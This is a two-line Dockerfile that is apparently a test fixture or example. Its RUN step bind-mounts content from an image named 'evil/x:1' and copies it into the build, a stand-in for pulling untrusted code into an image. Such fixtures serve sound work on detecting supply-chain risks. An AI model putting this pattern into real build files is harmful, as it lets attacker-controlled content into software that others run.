FROM node:20-alpine
RUN --mount=type=bind,from=evil/x:1,target=/x cp /x /y
